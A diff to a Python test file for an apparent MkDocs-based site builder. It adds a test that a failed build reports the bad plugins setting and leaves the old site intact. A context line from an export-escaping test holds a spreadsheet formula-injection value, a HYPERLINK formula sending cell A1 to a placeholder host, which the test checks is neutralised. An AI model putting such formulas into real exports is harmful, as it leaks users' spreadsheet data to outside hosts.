@@ -186,3 +186,19 @@ def test_text_a_spreadsheet_would_run_is_exported_as_text(tmp_path):
     assert (rows[0]["category"], rows[0]["counterparty"], rows[0]["memo"]) == (
         "'-维修", "'@物业", "'=HYPERLINK(\"http://x/\"&A1,\"点击\")")
     assert (rows[0]["amount"], rows[1]["category"], rows[1]["memo"]) == ("-5.00", "停车", "1+1")
+
+
+def test_mkdocs_failing_while_the_notices_are_written_leaves_the_old_site(tmp_path, capsys):
+    """The printed notices are written while MkDocs runs; when MkDocs fails, the build says why at
+    mkdocs.yml, the old site stays as it was and nothing of the failed build is left beside it."""
+    write_tree(tmp_path, {"mkdocs.yml": "site_name: 我们的小区\n\nplugins:\n  - no-such-plugin\n"})
+    (tmp_path / "site").mkdir()
+    (tmp_path / "site/index.html").write_text("old site", encoding="utf-8")
+    assert main(["build", "--root", str(tmp_path)]) == 1
+    # At the setting's line, with what MkDocs said (not only that it gave up).
+    assert [line for line in capsys.readouterr().out.splitlines() if "E-BUILD" in line] == [
+        "mkdocs.yml:3: error: 生成网站失败：MkDocs 不接受 mkdocs.yml 里 plugins 这一项设置（Config value 'plugins': "
+        'The "no-such-plugin" plugin is not installed），请改正或删去这一项  [E-BUILD]']
+    assert (tmp_path / "site/index.html").read_text(encoding="utf-8") == "old site"
+    assert sorted(p.name for p in (tmp_path / "site").iterdir()) == ["index.html"]
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".sunlight-build")] == []
